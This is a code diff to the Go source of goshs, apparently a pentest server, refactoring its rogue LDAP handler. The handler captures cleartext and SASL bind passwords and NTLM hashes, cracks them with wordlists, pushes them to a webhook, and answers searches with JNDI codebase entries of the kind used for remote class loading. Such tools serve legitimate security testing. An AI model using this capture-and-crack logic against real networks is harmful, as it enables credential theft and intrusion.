@@ -9,7 +9,9 @@ import (
 	"time"
 
 	"goshs.de/goshs/v2/logger"
+	"goshs.de/goshs/v2/metrics"
 	"goshs.de/goshs/v2/smbserver"
+	"goshs.de/goshs/v2/webhook"
 	"goshs.de/goshs/v2/ws"
 )
 
@@ -108,7 +110,9 @@ func (s *session) handleBind(msgID int, data []byte, src string) {
 			return
 		}
 
-		logger.Infof("[ldap] bind from %s  dn=%q  password=%q", src, dn, password)
+		metrics.LDAPBinds.Inc("simple")
+		logger.Access{Protocol: "ldap", Client: src, User: dn, Event: "bind", Method: "bind"}.
+			Infof("[ldap] bind from %s  dn=%q  password=%q", src, dn, password)
 
 		event := ws.LDAPEvent{
 			Type:      "ldap",
@@ -163,7 +167,9 @@ func (s *session) handleBind(msgID int, data []byte, src string) {
 					password = fmt.Sprintf("[SASL PLAIN] user=%s pass=%s", parts[1], parts[2])
 				}
 			}
-			logger.Infof("[ldap] SASL PLAIN bind from %s  dn=%q  password=%q", src, dn, password)
+			metrics.LDAPBinds.Inc("sasl_plain")
+			logger.Access{Protocol: "ldap", Client: src, User: dn, Event: "bind", Method: "sasl_plain"}.
+				Infof("[ldap] SASL PLAIN bind from %s  dn=%q  password=%q", src, dn, password)
 
 			event := ws.LDAPEvent{
 				Type:      "ldap",
@@ -239,10 +245,13 @@ func (s *session) handleNTLMBind(msgID int, ntlmMsg []byte, src string) {
 
 	// Try to crack with built-in wordlist first (sub-millisecond).
 	cracked, _ := smbserver.TryCrackDefault(captured)
+	metrics.LDAPBinds.Inc("ntlm")
+	metrics.CountHash("ldap", cracked)
+	access := logger.Access{Protocol: "ldap", Client: src, User: captured.Domain + "\\" + captured.Username, Event: "hash_capture", Method: "ntlm"}
 	if cracked != "" {
-		logger.Infof("[ldap] NTLM hash from %s: %s (cracked: %q)", src, captured.HashcatLine, cracked)
+		access.Infof("[ldap] NTLM hash from %s: %s (cracked: %q)", src, captured.HashcatLine, cracked)
 	} else {
-		logger.Infof("[ldap] NTLM hash from %s: %s", src, captured.HashcatLine)
+		access.Infof("[ldap] NTLM hash from %s: %s", src, captured.HashcatLine)
 	}
 
 	event := ws.LDAPEvent{
@@ -267,36 +276,34 @@ func (s *session) handleNTLMBind(msgID int, ntlmMsg []byte, src string) {
 		if cracked != "" {
 			msg = fmt.Sprintf("%s\nCracked: %s", msg, cracked)
 		}
-		logger.HandleWebhookSend(msg, "ldap", *s.srv.WebHook)
+		e := webhook.NewEvent("ldap", msg)
+		e.Remote = src
+		e.User = captured.Username
+		e.Hashes = []string{captured.HashcatLine}
+		e.Fields = map[string]string{
+			"domain":       captured.Domain,
+			"hash_type":    string(captured.Protocol),
+			"hashcat_mode": captured.HashcatMode,
+		}
+		if cracked != "" {
+			e.Fields["password"] = cracked
+		}
+		logger.HandleWebhookEvent(e, *s.srv.WebHook)
 	}
 
 	// If a file wordlist is configured and default cracking failed, try it in the background.
-	if cracked == "" && s.srv.Wordlist != "" {
+	if s.srv.Cracker != nil {
+		snap := *captured
+		s.srv.Cracker.Submit(&snap, "ldap", src, cracked, s.srv.Wordlist, func(pw string) {
+			s.srv.broadcastNTLMCracked(&snap, src, pw)
+		})
+	} else if cracked == "" && s.srv.Wordlist != "" {
 		snap := *captured
 		go func() {
 			if pw, ok := smbserver.TryCrackFile(&snap, s.srv.Wordlist); ok {
+				metrics.HashesCracked.Inc("ldap")
 				logger.Infof("[ldap] NTLM cracked %s\\%s — plaintext: %s (wordlist)", snap.Domain, snap.Username, pw)
-				update := ws.LDAPEvent{
-					Type:            "ldap",
-					Operation:       "ntlm",
-					Username:        snap.Username,
-					Domain:          snap.Domain,
-					Hash:            snap.HashcatLine,
-					HashType:        string(snap.Protocol),
-					HashcatMode:     snap.HashcatMode,
-					CrackedPassword: pw,
-					Source:          src,
-					Timestamp:       time.Now(),
-				}
-				if b, err := json.Marshal(update); err == nil {
-					s.srv.Hub.Broadcast <- b
-				}
-
-				if s.srv.WebHook != nil {
-					msg := fmt.Sprintf("LDAP NTLM cracked (wordlist) from %s\nUser: %s\nDomain: %s\nCracked: %s\n\n%s",
-						src, snap.Username, snap.Domain, pw, snap.HashcatLine)
-					logger.HandleWebhookSend(msg, "ldap", *s.srv.WebHook)
-				}
+				s.srv.broadcastNTLMCracked(&snap, src, pw)
 			}
 		}()
 	}
@@ -325,7 +332,8 @@ func (s *session) handleSearch(msgID int, data []byte, src string) {
 		return
 	}
 
-	logger.Infof("[ldap] search from %s  baseDN=%q", src, baseDN)
+	logger.Access{Protocol: "ldap", Client: src, Method: "search", Path: baseDN}.
+		Infof("[ldap] search from %s  baseDN=%q", src, baseDN)
 
 	event := ws.LDAPEvent{
 		Type:      "ldap",
@@ -345,7 +353,7 @@ func (s *session) handleSearch(msgID int, data []byte, src string) {
 
 	// In JNDI mode the baseDN itself is the factory class name.
 	if s.srv.JNDIEnabled {
-		entry := buildJNDIEntry(msgID, baseDN, baseDN, s.srv.JNDICodeBase)
+		entry := buildJNDIEntry(msgID, baseDN, baseDN, s.srv.codeBase())
 		if _, err := s.conn.Write(entry); err != nil {
 			logger.Debugf("[ldap] write jndi entry: %v", err)
 			return